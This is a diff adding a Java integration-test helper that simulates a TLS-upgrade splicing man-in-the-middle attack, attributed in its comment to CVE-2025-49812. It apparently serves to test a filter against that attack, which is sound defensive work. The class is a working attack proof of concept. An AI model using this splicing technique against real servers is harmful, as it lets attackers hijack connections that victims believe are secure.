@@ -1,0 +1,89 @@
+package org.upgradefilter.it;
+
+import java.io.IOException;
+import java.io.UncheckedIOException;
+import java.net.InetAddress;
+import java.net.ServerSocket;
+import java.net.Socket;
+import java.net.URI;
+
+/**
+ * An attacker in the middle (CVE-2025-49812): asks a server in clear for TLS, and then joins the
+ * connection to that of a victim, who believes to talk to a server of https.
+ */
+final class SplicingProxy implements AutoCloseable {
+
+    private final ServerSocket listening =
+            new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
+
+    /**
+     * @param asking what the attacker sends
+     */
+    SplicingProxy(URI server, RawRequest asking) throws IOException {
+        start(() -> serve(server, asking));
+    }
+
+    /** Where victims connect to. */
+    URI https(String path) {
+        return URI.create("https://127.0.0.1:" + listening.getLocalPort() + path);
+    }
+
+    private void serve(URI server, RawRequest asking) throws IOException {
+        while (true) {
+            Socket victim = listening.accept();
+            Socket upgraded = new Socket(server.getHost(), server.getPort());
+            upgraded.getOutputStream().write(asking.bytes());
+            if (!skipHead(upgraded).startsWith("HTTP/1.1 101")) {
+                throw new AssertionError("the server does not switch");
+            }
+            start(() -> pipe(victim, upgraded));
+            start(() -> pipe(upgraded, victim));
+        }
+    }
+
+    private static String skipHead(Socket socket) throws IOException {
+        StringBuilder head = new StringBuilder();
+        while (head.indexOf("\r\n\r\n") < 0) {
+            int next = socket.getInputStream().read();
+            if (next < 0) {
+                throw new AssertionError("the server has closed after " + head);
+            }
+            head.append((char) next);
+        }
+        return head.toString();
+    }
+
+    private static void pipe(Socket from, Socket to) throws IOException {
+        try (to) {
+            from.getInputStream().transferTo(to.getOutputStream());
+        }
+    }
+
+    private static void start(Step step) {
+        Thread thread =
+                new Thread(
+                        () -> {
+                            try {
+                                step.run();
+                            } catch (IOException end) {
+                                // How a closed socket ends a thread that waits for it.
+                            }
+                        });
+        thread.setDaemon(true);
+        thread.start();
+    }
+
+    @FunctionalInterface
+    private interface Step {
+        void run() throws IOException;
+    }
+
+    @Override
+    public void close() {
+        try {
+            listening.close();
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
+    }
+}
